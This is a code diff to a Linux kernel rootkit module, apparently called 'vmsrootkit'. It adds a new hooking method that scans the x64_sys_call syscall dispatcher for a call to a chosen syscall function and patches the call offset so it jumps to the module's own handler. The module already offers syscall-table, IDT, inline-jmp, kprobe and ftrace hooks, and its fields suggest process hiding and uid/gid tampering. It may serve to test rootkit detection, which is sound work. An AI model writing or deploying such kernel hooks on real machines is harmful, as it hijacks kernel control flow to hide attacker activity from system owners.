@@ -12,6 +12,9 @@
  *   syscall_table=ADDR syscall_nr=N   overwrite sys_call_table[N] with our handler
  *   idt_table=ADDR idt_vector=N      point IDT gate N at our handler
  *   patch_addr=ADDR     plant a jmp at the start of a kernel function (inline hook)
+ *   dispatch_addr=ADDR dispatch_from=ADDR
+ *                       in the syscall dispatcher (x64_sys_call, Linux 6.9+ and 6.1.85+), turn
+ *                       the call or tail call of dispatch_from (a __x64_sys_* function) to ours
  *   kprobe_hook=1       register a kprobe on __x64_sys_getppid with our handler
  *   ftrace_hook=1       register an ftrace callback on vfs_getattr
  *
@@ -46,6 +49,12 @@ module_param(syscall_nr, int, 0);
 module_param(idt_table, ulong, 0);
 module_param(idt_vector, int, 0);
 module_param(patch_addr, ulong, 0);
+static unsigned long dispatch_addr;
+static unsigned long dispatch_from;
+module_param(dispatch_addr, ulong, 0);
+module_param(dispatch_from, ulong, 0);
+/* the dispatcher is one function of direct calls: this far in, at most */
+#define DISPATCH_SCAN 65536
 static int kprobe_hook;
 static int ftrace_hook;
 module_param(kprobe_hook, int, 0);
@@ -93,6 +102,8 @@ static struct task_struct *hidden_task;
 static unsigned long saved_syscall;
 static u16 saved_gate[8];
 static u8 saved_code[5];
+static s32 *dispatch_site;
+static s32 saved_dispatch;
 static kuid_t saved_uid[4];
 static kgid_t saved_gid[4];
 static int kprobe_registered, ftrace_registered;
@@ -144,6 +155,25 @@ static int __init vms_init(void)
 		*(s32 *)(p + 1) = (s32)rel;
 		wp_on();
 	}
+	if (dispatch_addr && dispatch_from) {
+		u8 *p = (u8 *)dispatch_addr;
+		int i;
+
+		for (i = 0; i < DISPATCH_SCAN - 5; i++) {
+			if ((p[i] == 0xe8 || p[i] == 0xe9) &&
+			    dispatch_addr + i + 5 + *(s32 *)(p + i + 1) == dispatch_from) {
+				dispatch_site = (s32 *)(p + i + 1);
+				break;
+			}
+		}
+		if (dispatch_site) {
+			saved_dispatch = *dispatch_site;
+			wp_off();
+			*dispatch_site = (s32)((long)vms_fake_syscall - ((long)dispatch_site + 4));
+			wp_on();
+		}
+		pr_info("vmsrootkit: dispatcher call %s\n", dispatch_site ? "patched" : "not found");
+	}
 	if (kprobe_hook)
 		kprobe_registered = !register_kprobe(&vms_kprobe);
 	if (ftrace_hook) {
@@ -170,6 +200,11 @@ static void __exit vms_exit(void)
 	if (patch_addr) {
 		wp_off();
 		memcpy((u8 *)patch_addr, saved_code, sizeof(saved_code));
+		wp_on();
+	}
+	if (dispatch_site) {
+		wp_off();
+		*dispatch_site = saved_dispatch;
 		wp_on();
 	}
 	if (idt_table && idt_vector >= 0) {
